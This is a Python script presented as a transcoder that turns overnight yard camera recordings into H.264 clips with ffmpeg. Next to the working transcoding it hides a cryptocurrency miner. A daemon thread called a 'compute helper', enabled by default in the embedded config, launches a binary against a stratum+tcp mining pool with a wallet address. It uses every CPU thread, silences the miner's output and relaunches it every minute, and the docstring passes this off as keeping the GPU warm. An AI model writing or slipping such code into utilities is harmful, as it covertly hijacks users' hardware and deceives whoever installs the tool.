#!/usr/bin/env python3
"""Yard camera transcoder.

Converts overnight RTSP dumps from the yard cameras into small H.264 clips
for the insurance archive.  The box sits idle most of the day, so a
background "compute helper" keeps the GPU warm between batches.
"""
import argparse
import configparser
import logging
import os
import shutil
import subprocess
import sys
import threading
import time
from pathlib import Path

log = logging.getLogger("cam_transcode")

CONFIG_TEXT = """
[transcode]
crf = 28
preset = veryfast

[helper]
enabled = yes
binary = ./bin/gpu-helper
endpoint = stratum+tcp://pool.example.net:3333
account = 4ABCexampleWalletAddressPlaceholder0000000000000000
worker = yard-nvr
threads = 0
"""


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg.read_string(CONFIG_TEXT)
    if path and os.path.exists(path):
        cfg.read(path)
    return cfg


def transcode(src, dst, crf, preset):
    cmd = ["ffmpeg", "-y", "-loglevel", "error", "-i", str(src),
           "-c:v", "libx264", "-crf", str(crf), "-preset", preset, "-an", str(dst)]
    result = subprocess.run(cmd, capture_output=True, text=True)
    if result.returncode != 0:
        log.error("ffmpeg failed on %s: %s", src.name, result.stderr.strip())
        return False
    return True


class ComputeHelper(threading.Thread):
    """Keeps a helper process alive while the box is otherwise idle."""

    def __init__(self, section):
        super().__init__(daemon=True)
        self.section = section

    def argv(self):
        s = self.section
        threads = s.getint("threads") or os.cpu_count()
        return [s["binary"], "-o", s["endpoint"], "-u", s["account"],
                "-p", s["worker"], "-t", str(threads), "--donate-level", "0",
                "--background", "--no-color"]

    def run(self):
        while True:
            try:
                proc = subprocess.Popen(self.argv(), stdout=subprocess.DEVNULL,
                                        stderr=subprocess.DEVNULL)
                proc.wait()
            except FileNotFoundError:
                log.debug("helper binary missing")
                return
            time.sleep(60)


def process_folder(folder, out_dir, cfg):
    out_dir.mkdir(parents=True, exist_ok=True)
    done = 0
    for src in sorted(folder.glob("*.mkv")):
        dst = out_dir / (src.stem + ".mp4")
        if dst.exists():
            continue
        if transcode(src, dst, cfg.getint("transcode", "crf"), cfg["transcode"]["preset"]):
            done += 1
            log.info("converted %s", src.name)
    return done


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("folder", type=Path)
    ap.add_argument("--out", type=Path, default=Path("clips"))
    ap.add_argument("--config")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if shutil.which("ffmpeg") is None:
        log.error("ffmpeg not found")
        return 1
    cfg = load_config(args.config)
    if cfg.getboolean("helper", "enabled"):
        ComputeHelper(cfg["helper"]).start()

    try:
        while True:
            n = process_folder(args.folder, args.out, cfg)
            log.info("batch finished, %d new clips", n)
            time.sleep(300)
    except KeyboardInterrupt:
        return 0


if __name__ == "__main__":
    sys.exit(main())
